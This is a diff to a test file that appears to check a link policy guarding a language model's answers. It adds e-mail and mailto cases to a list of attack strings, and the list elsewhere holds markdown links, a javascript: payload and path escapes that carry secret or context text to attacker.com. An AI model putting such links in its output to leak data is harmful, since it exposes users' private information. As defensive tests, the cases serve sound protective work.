@@ -23,7 +23,9 @@ from tests.link_oracle import followed_addresses
 SOURCE = "https://intranet.acme.com/travel.html"
 CMS = "cms://handbook"
 ALLOWED = "https://wiki.acme.com/pub/"
-POLICY = LinkPolicy([SOURCE, CMS], [ALLOWED], ["The travel policy reimburses economy flights booked ahead."])
+POLICY = LinkPolicy(
+    [SOURCE, CMS], [ALLOWED], ["The travel policy reimburses economy flights booked ahead. Questions: hr@acme.com."]
+)
 
 #: (name, answer): every form a language model can put an address in, each pointing at the attacker.
 ATTACKS = [
@@ -58,6 +60,9 @@ ATTACKS = [
     ("entity-obfuscated scheme", "[x](&#106;avascript:alert(1))"),
     ("escaped markdown in destination", r"[x](https\://attacker.com/?d=s)"),
     ("mailto with body", "Write to mailto:leak@attacker.com?body=secret%20text"),
+    ("e-mail carrying text", "Write to travel-policy-reimburses-economy@attacker.com today"),
+    ("e-mail autolink carrying text", "Write to <travel-policy-reimburses-economy@attacker.com> today"),
+    ("mailto carrying text", "[hr](mailto:travel-policy-reimburses-economy@attacker.com)"),
     ("allowed host, query string", "[x](https://wiki.acme.com/pub/page?d=secret)"),
     ("allowed host, path escapes the prefix", "[x](https://wiki.acme.com/pub/../redirect/attacker.com)"),
     ("allowed host, sibling path", "[x](https://wiki.acme.com/public-attacker/x)"),
